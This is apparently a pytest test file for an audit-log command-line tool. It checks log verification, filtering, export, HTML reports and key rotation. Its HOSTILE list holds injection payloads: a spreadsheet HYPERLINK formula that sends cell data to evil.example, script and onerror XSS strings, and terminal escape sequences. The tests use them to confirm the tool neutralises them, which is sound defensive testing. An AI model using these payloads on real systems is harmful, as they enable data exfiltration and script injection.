"""``cloakllm-gateway audit``: what it says, with what status, and what a hostile log can't do with it."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from tempfile import gettempdir

import pytest
from click.testing import CliRunner, Result

from cloakllm_gateway.audit import chain, schema
from cloakllm_gateway.audit.chain import Head
from cloakllm_gateway.audit.report import DAILY
from cloakllm_gateway.cli.audit import audit
from tests.audit.logs import BEGIN, Clock, body, days, writer

#: Names as a hostile upstream, or whoever wrote the log, would choose them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", "\x1b[2J\x1b]0;owned\x07",
    "\u202eevil", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "a\nb\rc", "\u2028", "\ud800", "',--",
]  # fmt: skip


def run(*words: object) -> Result:
    return CliRunner().invoke(audit, [str(word) for word in words], catch_exceptions=False)


@pytest.fixture
def log(tmp_path: Path) -> Path:
    return days(tmp_path / "log")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A log whose every text is one of :data:`HOSTILE`, as no gateway writes it."""
    directory = tmp_path / "hostile"
    directory.mkdir()
    bodies: list[dict[str, object]] = []
    for name in HOSTILE:
        about = {"upstream": name, "method": name, "tool": name, "reason": name, "rule": name, name: name}
        for event in ("sanitize", "restore", "refused", "withheld", "raw_pii", name):
            counts = {"entity_count": name, "categories": {name: 1}, "tripwire": {name: 1}}
            tokens = [{"token": f"{name}_0", "from": [name], "rule": name, "foreign": name}]
            bodies.append({"event_type": event, **about, **counts, "tokens": tokens})
    lines = [
        json.dumps({**body, "seq": seq, "timestamp": HOSTILE[seq % len(HOSTILE)], "session": HOSTILE[0]})
        for seq, body in enumerate(bodies)
    ]
    (directory / "audit_2026-05-01.jsonl").write_text("".join(f"{line}\n" for line in lines))
    return directory


class _Page(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


# -- verify --------------------------------------------------------------------------------------------


def test_verify_says_what_the_verdict_is_worth(log: Path, tmp_path: Path):
    done = run("verify", log)
    assert done.exit_code == 0 and "self-consistent:" in done.stdout
    outside = shutil.copytree(log, tmp_path / "elsewhere")
    done = run("verify", log, "--key", outside / "log.pub", "--checkpoint", outside / "checkpoints.txt")
    assert done.exit_code == 0 and "verified:" in done.stdout


def test_verify_names_the_first_bad_entry(log: Path):
    path = sorted(log.glob("*.jsonl"))[1]
    path.write_bytes(path.read_bytes().replace(b'"EMAIL":1', b'"EMAIL":2', 1))
    done = run("verify", log)
    assert done.exit_code == 1
    assert "audit_2026-05-02.jsonl:1: edited:" in done.stdout


def test_verify_speaks_json(log: Path):
    assert json.loads(run("verify", log, "--json").stdout) == {
        "status": "self-consistent", "entries": 12, "first": 0, "checkpoints": 3, "signed": 12, "anchored": 0,
        "began": "2026-05-01T08:00:00.000+00:00", "ended": "2026-05-03T08:00:11.000+00:00",
        "problems": [], "more_problems": 0, "fragments": 0,
    }  # fmt: skip
    sorted(log.glob("*.jsonl"))[-1].unlink()
    done = run("verify", log, "--json")
    assert done.exit_code == 1
    assert [problem["kind"] for problem in json.loads(done.stdout)["problems"]] == ["cut"]


def test_verify_says_how_far_the_verdict_reaches(log: Path, tmp_path: Path):
    outside = shutil.copytree(log, tmp_path / "elsewhere")
    writer(log, Clock(BEGIN.replace(month=6))).append([body()])
    assert "from number 12 on are younger than the newest checkpoint." in run("verify", log).stdout
    known = ("--key", outside / "log.pub", "--checkpoint", outside / "checkpoints.txt")
    assert (
        "from number 12 on are younger than the newest checkpoint from elsewhere" in run("verify", log, *known).stdout
    )
    (log / "checkpoints.txt").unlink()
    assert "nothing of it is signed" in run("verify", log).stdout


def configured(folder: Path, audit: object) -> Path:
    path = folder / "gateway.json"
    upstreams = {"crm": {"command": "crm-server"}}
    path.write_text(json.dumps({"upstreams": upstreams, "state_dir": str(folder), "audit": audit}))
    return path


@pytest.mark.parametrize("audit", [{"path": "log"}, {}])
@pytest.mark.parametrize("command", ["verify", "show", "export", "report", "rotate-key"])
def test_every_command_finds_the_log_of_a_configuration(tmp_path: Path, log: Path, audit: object, command: str):
    directory = log if audit else log.rename(tmp_path / "audit")
    config = configured(tmp_path, audit)
    if command != "rotate-key":  # which makes another key each time
        assert run(command, "--config", config).output == run(command, directory).output
    assert run(command, "--config", config).exit_code == 0


def test_a_log_is_named_once_and_has_to_be_kept(tmp_path: Path, log: Path):
    config = configured(tmp_path, False)
    assert "leave one out" in run("verify", log, "--config", config).stderr
    done = run("report", "--config", config)
    assert done.exit_code == 2 and "keeps no audit log: audit is false" in done.stderr
    config.write_text("{}")
    done = run("show", "--config", config)
    assert done.exit_code == 2 and "upstreams" in done.stderr


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="only root can become somebody else")
def test_what_one_may_not_read_is_no_verdict(log: Path):
    """Neither 'wrong' nor, worse, 'nothing wrong'."""
    for folder in (log, *log.parents):
        if folder.stat().st_uid == os.geteuid() and folder.is_relative_to(gettempdir()):
            folder.chmod(0o755)
    os.seteuid(65534)
    try:
        done = run("verify", log)
    finally:
        os.seteuid(0)
    assert done.exit_code == 2
    assert "Permission denied" in done.stderr


@pytest.mark.parametrize("words", [[], ["--json"]])
def test_what_can_not_be_read_has_a_status_of_its_own(tmp_path: Path, words: list[str]):
    (tmp_path / "empty").mkdir()
    for directory in (tmp_path / "none", tmp_path / "empty"):
        assert run("verify", directory, *words).exit_code == 2
    log = days(tmp_path / "log")
    assert run("verify", log, "--key", tmp_path / "no.pub", *words).exit_code == 2
    (tmp_path / "loop").symlink_to("loop")
    assert run("verify", tmp_path / "loop", "--key", log / "log.pub", *words).exit_code == 2
    assert run("verify", log, "--checkpoint", tmp_path / "loop", *words).exit_code == 2


def test_a_file_of_the_log_named_in_its_place_is_told_what_to_name(log: Path):
    file = next(log.glob("*.jsonl"))
    for command, told in (
        ("verify", "is no directory. Name that of the log, which has a file for each day."),
        ("show", "Name its directory"),
        ("report", "Name its directory"),
    ):
        done = run(command, file)
        assert done.exit_code == 2 and f"{file}" in done.stderr and told in done.stderr


# -- show, export, report ------------------------------------------------------------------------------


def test_entries_are_shown_by_time_upstream_category_and_event(log: Path):
    assert len(run("show", log).stdout.splitlines()) == 12
    assert len(run("show", log, "--since", "2026-05-02", "--until", "2026-05-02").stdout.splitlines()) == 4
    assert len(run("show", log, "--until", "2026-05-02T08:00:05").stdout.splitlines()) == 6
    assert run("show", log, "--upstream", "mailer").stdout == run("show", log, "--event", "restore").stdout == ""
    assert len(run("show", log, "--category", "EMAIL", "--upstream", "crm").stdout.splitlines()) == 12


@pytest.mark.parametrize("time", ["yesterday", "2026-13-01", "2026-05-01T25", "2026-05-01T08:00+02:00"])
def test_a_time_that_is_none_is_refused_and_not_taken_for_never(log: Path, time: str):
    assert run("show", log, "--since", time).exit_code == 2
    assert run("report", log, "--until", time).exit_code == 2


def test_of_a_long_list_there_is_the_number(tmp_path: Path):
    opening = {
        "versions": {}, "config": "0" * 64, "upstreams": ["crm"], "sanitize": True, "names": True, "proved": True,
        "detecting": [f"KIND_{n}" for n in range(90)],
    }  # fmt: skip
    writer(tmp_path).append([schema.body("session_open", opening)])
    assert "detecting=(90)" in (shown := run("show", tmp_path).stdout) and 'upstreams=["crm"]' in shown


def test_names_may_be_written_as_people_write_them(log: Path):
    assert len(run("show", log, "--category", "email").stdout.splitlines()) == 12
    assert len(run("show", log, "--since", "2026-05-02 08:00Z").stdout.splitlines()) == 8
    assert run("show", log, "--event", "restored").exit_code == 2


def test_a_name_that_nothing_is_of_is_told_with_those_that_are_there(log: Path):
    shown = run("show", log, "--upstream", "mailer")
    assert (shown.exit_code, shown.stdout) == (0, "")
    assert shown.stderr == "cloakllm-gateway: no entry of 12 is of that kind; each upstream in it: crm\n"
    exported = run("export", log, "--category", "EMIAL")
    assert "each category in it: EMAIL" in exported.stderr


def test_a_report_of_no_time_is_short(log: Path):
    told = run("report", log, "--since", "2030-01-01").stdout.splitlines()
    assert told[0] == "Audit log: no entries of that time"
    assert len(told) == 2


def test_a_report_written_to_a_page_is_one(log: Path, tmp_path: Path):
    run("report", log, "-o", tmp_path / "report.html")
    assert (tmp_path / "report.html").read_text().startswith("<!doctype html>")
    run("report", log, "--format", "text", "-o", tmp_path / "report.html")
    assert (tmp_path / "report.html").read_text().startswith("Audit log: 12 entries")


def test_the_words_of_a_legend_stand_beside_each_other(log: Path):
    page = run("report", log, "--format", "html").stdout
    legend = re.findall(r'<text x="([\d.]+)" y="181.0" text-anchor="start">([^<]+)', page)
    assert [words for _, words in legend] == list(DAILY.values())
    for (at, words), (next_at, _) in pairwise(legend):
        assert float(at) + 6 * len(words) < float(next_at)
    assert float(legend[-1][0]) + 6 * len(legend[-1][1]) < 720


def test_an_export_of_nothing_is_an_empty_one(log: Path):
    assert json.loads(run("export", log, "--format", "json", "--upstream", "nobody").stdout) == []
    assert len(run("export", log, "--upstream", "nobody").stdout.splitlines()) == 1


def test_an_export_holds_every_entry(log: Path, tmp_path: Path):
    rows = list(csv.DictReader(io.StringIO(run("export", log).stdout)))
    assert [int(row["seq"]) for row in rows] == list(range(12))
    assert rows[0]["categories"] == '{"EMAIL": 1}'
    run("export", log, "--format", "json", "-o", tmp_path / "out.json")
    assert [entry["seq"] for entry in json.loads((tmp_path / "out.json").read_text())] == list(range(12))


def test_a_report_counts_who_was_hidden(log: Path):
    text = run("report", log).stdout
    assert "12 entries" in text and "crm  EMAIL  12" in text and "self-consistent" in text


def test_a_report_is_one_page_with_pictures_that_fetches_and_runs_nothing(log: Path):
    page = _Page(text := run("report", log, "--format", "html").stdout)
    assert "svg" in page.tags and "rect" in page.tags
    assert not page.tags & {"script", "img", "link", "iframe", "object"}
    assert not page.attributes & {"src", "href", "onload", "onerror", "onclick"}
    assert text.count("<svg") == 2  # nothing was restored, so nobody got anything
    assert "2026-05-01 08:00 to 2026-05-03 08:00 UTC" in text


def test_a_report_says_first_what_is_wrong(log: Path):
    sorted(log.glob("*.jsonl"))[-1].unlink()
    for how in ("text", "html"):
        assert "cut: the log has 8 entries" in run("report", log, "--format", how).stdout


def test_a_report_tells_values_for_another_server_from_those_for_their_own(tmp_path: Path):
    log = writer(tmp_path)
    for origin, count in (("crm", 3), ("mailer", 2)):
        token = {"token": "EMAIL_0", "from": [origin], "rule": "origin", "foreign": origin == "crm"}
        fields = {
            "upstream": "mailer", "method": "tools/call", "direction": "to_upstream", "tokens": [token] * count,
            "entity_count": count, "categories": {"EMAIL": count},
        }  # fmt: skip
        log.append([schema.body("restore", fields)])
    text = run("report", tmp_path, "--format", "html").stdout
    assert "<b>3</b>given to another server" in text and "<b>2</b>given back to their own server" in text
    assert "from crm" in text and "to mailer" in text


def test_a_report_counts_each_value_once_and_by_the_way_it_went(tmp_path: Path):
    known_twice = {"token": "SSN_0", "from": ["db", "files"], "rule": "origin", "foreign": False}
    from_two = {"token": "EMAIL_0", "from": ["crm", "db"], "rule": "token_scope: session", "foreign": True}
    fields = {
        "upstream": "files", "method": "tools/call", "direction": "to_upstream", "tokens": [known_twice, from_two],
        "entity_count": 2, "categories": {"SSN": 1, "EMAIL": 1},
    }  # fmt: skip
    writer(tmp_path).append([schema.body("restore", fields)])
    told = run("report", tmp_path).stdout
    assert "Values given back, by from, to, category\n  crm, db  files  EMAIL  1\n  files    files  SSN    1\n" in told
    page = run("report", tmp_path, "--format", "html").stdout
    assert "<b>1</b>given to another server" in page and "<b>1</b>given back to their own server" in page
    assert "db to files" not in page.replace("crm, db to files", "")


def test_a_command_is_no_session_that_did_not_end(tmp_path: Path):
    fields = {"action": "list", "namespace": "default", "count": 3, "refused": False}
    writer(tmp_path).append([schema.body("vault", fields)])
    assert run("rotate-key", tmp_path).exit_code == 0
    text = run("report", tmp_path).stdout
    assert "Sessions: 0, not ended in order: 0" in text and "vault       1" in text
    assert run("report", tmp_path, "--format", "html").exit_code == 0


def test_a_report_names_whose_sessions_came_over_http(tmp_path: Path):
    opened = {
        "versions": {"gateway": "1"}, "upstreams": ["crm"], "sanitize": True, "detecting": ["EMAIL"], "names": False,
        "proved": True, "config": "0" * 64,
    }  # fmt: skip
    writer(tmp_path).append([schema.body("session_open", {**opened, **who}) for who in ({"principal": "alice"}, {})])
    assert "Sessions over HTTP, by principal\n  alice  1\n" in run("report", tmp_path).stdout


def test_a_report_names_what_nobody_looked_at(tmp_path: Path):
    passed = {"upstream": "crm", "method": "tools/call", "direction": "to_model", "messages": 7}
    writer(tmp_path).append([schema.body("passed", passed)])
    assert "Messages that nobody looked at, by upstream\n  crm  7\n" in run("report", tmp_path).stdout


# -- a hostile log -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [["show"], ["export"], ["export", "--format", "json"], ["report"], ["report", "--format", "html"], ["verify"]],
)
def test_nothing_of_a_hostile_log_acts_on_a_terminal(hostile: Path, command: list[str]):
    done = run(*command, hostile)
    assert done.exit_code in (0, 1)
    for stream in (done.stdout, done.stderr):
        assert stream.isascii()
        assert all(char.isprintable() or char in "\r\n" for char in stream)


def test_nothing_of_a_hostile_log_is_a_formula(hostile: Path):
    cells = [cell for row in csv.reader(io.StringIO(run("export", hostile).stdout)) for cell in row]
    assert len(cells) > 100
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_nothing_of_a_hostile_log_is_markup(hostile: Path):
    page = _Page(run("report", hostile, "--format", "html").stdout)
    assert not page.tags & {"script", "img", "iframe", "a"}
    assert not page.attributes & {"onerror", "src", "href", "onload"}


def test_names_from_outside_are_harmless_in_the_log_already(tmp_path: Path):
    for name in HOSTILE:
        lines, _ = chain.seal([body(upstream=name)], Head(), "2026-05-01T08:00:00.000+00:00", "0" * 16)
        assert lines[:-1].isascii() and lines[:-1].decode().isprintable()


# -- the key -------------------------------------------------------------------------------------------


def test_a_new_key_is_trusted_by_whoever_trusts_the_old_one(log: Path, tmp_path: Path):
    old = Path(shutil.copy(log / "log.pub", tmp_path / "old.pub"))
    done = run("rotate-key", log)
    assert done.exit_code == 0
    assert done.stdout.splitlines()[-1] == (log / "log.pub").read_text().splitlines()[-1]
    assert run("rotate-key", log).exit_code == 0
    anchor = shutil.copy(log / "checkpoints.txt", tmp_path / "anchor.txt")
    assert "verified:" in run("verify", log, "--key", old, "--checkpoint", anchor).stdout
    assert len((log / "log.pub").read_text().splitlines()) == 3


def test_no_key_is_made_where_there_is_no_log(tmp_path: Path):
    assert run("rotate-key", tmp_path).exit_code == 2
    assert list(tmp_path.iterdir()) == []
